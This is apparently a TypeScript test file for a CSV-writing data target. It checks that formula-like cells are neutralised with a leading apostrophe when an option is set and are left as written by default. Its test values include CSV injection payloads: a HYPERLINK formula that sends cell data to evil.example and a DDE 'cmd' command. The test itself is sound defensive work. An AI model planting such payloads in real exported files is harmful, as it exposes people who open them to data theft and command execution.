// CSV injection: a cell starting with = + - @ is run as a formula by a spreadsheet opening the file (a HYPERLINK
// that sends other cells away, a DDE command). With csv_neutralise_formulas such cells get a leading apostrophe;
// without it (the default, for files programs read) every value is written as it came.
import t, { type Test } from 'tap';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { singer } from './helpers.js';
import { manifests, runFilesTarget } from './files.js';

const VALUES = ['=HYPERLINK("https://evil.example/?d="&B3,"details")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTAB', 'Smith', ''];

async function csv(t: Test, neutralise: boolean | undefined): Promise<string> {
  const root = mkdtempSync(join(tmpdir(), 'files-csv-formulas-'));
  t.teardown(() => rmSync(root, { recursive: true, force: true }));
  const input = singer(
    {
      type: 'SCHEMA',
      stream: 'notes',
      schema: { properties: { id: { type: 'integer' }, note: { type: ['string', 'null'] }, n: { type: 'integer' } } },
      key_properties: ['id'],
    },
    ...VALUES.map((note, i) => ({ type: 'RECORD', stream: 'notes', record: { id: i, note, n: -i } })),
    { type: 'STATE', value: { n: 1 } },
  );
  const r = await runFilesTarget(
    { root, zone: 'raw', source: 'x', format: 'csv', ...(neutralise === undefined ? {} : { csv_neutralise_formulas: neutralise }) },
    input,
  );
  t.equal(r.code, 0, r.stderr.slice(-1500));
  const [m] = manifests(root, 'raw', 'x');
  return readFileSync(join(root, m!.files[0]!.path), 'utf8');
}

t.test('csv_neutralise_formulas: formula-like text cells become text; numbers and other text are untouched', async (t) => {
  const guarded = await csv(t, true);
  t.match(guarded, `"'=HYPERLINK(""https://evil.example/?d=""&B3,""details"")"`);
  t.match(guarded, `'+cmd|' /C calc'!A0`);
  t.match(guarded, `\r\n2,'-2+3,-2\r\n`, 'a negative number column stays a number');
  t.match(guarded, `'@SUM(1+1)`);
  t.match(guarded, `'\tTAB`);
  t.match(guarded, `\r\n5,Smith,-5\r\n`);
  const plain = await csv(t, undefined);
  t.match(plain, `\r\n2,-2+3,-2\r\n`, 'by default every value is written as it came');
  t.notMatch(plain, `'=HYPERLINK`);
});
